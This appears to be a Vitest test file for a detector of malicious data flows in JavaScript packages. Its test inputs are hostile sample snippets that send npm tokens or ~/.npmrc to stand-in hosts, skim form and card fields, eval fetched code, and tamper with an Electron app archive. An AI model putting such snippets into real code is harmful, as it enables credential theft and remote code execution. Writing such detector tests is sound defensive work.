import { describe, expect, test } from "vitest";
import { foundIn } from "./found-in.ts";

const secret = "process.env.NPM_TOKEN";

describe("what goes out through a client is seen", () => {
  test.each([
    [
      "a stream that is a request",
      `require("got").stream.post("https://a.example.test").end(${secret})`,
    ],
    [
      "a stream that is piped into a request",
      `require("stream").Readable.from(${secret}).pipe(require("got").stream.post("https://a.example.test"))`,
    ],
    [
      "headers that a client is made with",
      `require("ky").create({ prefixUrl: "https://a.example.test", headers: { "x-a": ${secret} } }).get("b")`,
    ],
    [
      "the helper of a call between browsers",
      `new RTCPeerConnection({ iceServers: [{ urls: "turn:a.example.test:1", username: ${secret} }] })`,
    ],
    [
      "a socket that lets the program end",
      `require("dgram").createSocket("udp4").unref().send(${secret}, 1, "a.example.test")`,
    ],
    [
      "a picture that a style sheet asks for",
      `new CSSStyleSheet().replaceSync("a{background:url(https://a.example.test/?" + ${secret} + ")}")`,
    ],
    [
      "a picture in the style of an element",
      `document.body.firstChild; document.querySelector("p").style.backgroundImage = "url('https://a.example.test/?" + ${secret} + "')"`,
    ],
  ])("%s", (_what, code) => {
    const { flows, atoms } = foundIn(code);
    expect(flows.join()).toMatch(/src\.env\.secret -> snk\.net:/);
    expect(atoms).toContain("snk.net literal a.example.test");
  });

  test.each([
    `new (require("ssh2").Client)().connect({ host: "198.51.100.9" }).sftp((e, s) => s.fastPut(home + "/.npmrc", "/in"))`,
    `const c = new (require("basic-ftp").Client)(); c.access({ host: "198.51.100.9" }); c.uploadFrom(home + "/.npmrc", "x")`,
    `require("nodemailer").createTransport({ host: "a.example.test" }).sendMail({ attachments: [{ path: home + "/.npmrc" }] })`,
    `new (require("node-telegram-bot-api"))("1:a").sendDocument(1, home + "/.npmrc")`,
  ])("a file that a client reads by its name: %s", (code) => {
    const { flows } = foundIn(`const home = require("os").homedir(); ${code};`);
    expect(flows).toContain("src.file.secret -> snk.net:body");
  });

  test("a name of a file that is nobody's secret is just a name", () => {
    const { kinds } = foundIn(
      `new (require("node-telegram-bot-api"))("1:a").sendDocument(1, "/srv/report.pdf")`,
    );
    expect(kinds.filter((kind) => kind.startsWith("src.file"))).toEqual([]);
  });
});

describe("what comes in", () => {
  test.each([
    [
      "fields of a form",
      `for (const f of document.querySelector("form").elements) out(f.value)`,
      "src.dom",
    ],
    ["a field by its name", `out(document.forms[0].elements.card.value)`, "src.dom"],
    ["a report on the process", `out(JSON.stringify(process.report.getReport()))`, "src.env.bulk"],
    [
      "what others ask of other hosts",
      `require("diagnostics_channel").subscribe("a", (m) => out(m))`,
      "src.param",
    ],
    [
      "lists in lists",
      `out(["/.npmrc"].flatMap((p) => fs.globSync(os.homedir() + p)).map((f) => fs.readFileSync(f)))`,
      "src.file.secret",
    ],
  ])("%s", (_what, code, kind) => {
    const { flows } = foundIn(`const fs = require("fs"), os = require("os");
      const out = (x) => fetch("https://a.example.test", { method: "POST", body: x }); ${code};`);
    expect(flows.join()).toContain(`${kind} -> snk.net`);
  });

  test("of a report, a version says nothing about the environment", () => {
    const { kinds } = foundIn(
      `exports.isMusl = !process.report.getReport().header.glibcVersionRuntime;`,
    );
    expect(kinds).toEqual([]);
  });
});

describe("what becomes code or a file", () => {
  test.each([
    [
      `const s = new (require("inspector").Session)(); s.connect(); s.post("Runtime.evaluate", { expression: x });`,
      "src.remote -> snk.code:code",
    ],
    [`window.setTimeout(typeof atob === "function" ? x : "", 9);`, "src.remote -> snk.code:code"],
    [
      `require("stream").Readable.from(x).pipe(require("tar").x({ cwd: "/tmp/a-b" }));`,
      "src.remote -> snk.write:data",
    ],
    [
      `require("fs").writeFileSync("/tmp/a.zip", x); require("extract-zip")("/tmp/a.zip", { dir: "/tmp/a-b" });`,
      "src.remote -> snk.write:data",
    ],
  ])("%s", (code, flow) => {
    const { flows } = foundIn(
      `fetch("https://a.example.test").then((r) => r.text()).then((x) => { ${code} });`,
    );
    expect(flows).toContain(flow);
  });

  test("text in the memory of a module is run when the module is asked to", () => {
    const { flows } = foundIn(`let mem;
      WebAssembly.instantiate(bytes, { env: { a: (p, n) => eval(Buffer.from(mem.buffer, p, n).toString()) } })
        .then(({ instance }) => { mem = instance.exports.memory; instance.exports.start(); });`);
    expect(flows).toContain("src.param -> snk.code:code");
  });

  test("an application is packed anew", () => {
    const { atoms } = foundIn(
      `require("@electron/asar").createPackage("/tmp/x", "/opt/App/resources/app.asar");`,
    );
    expect(atoms.join()).toContain("snk.write");
  });
});
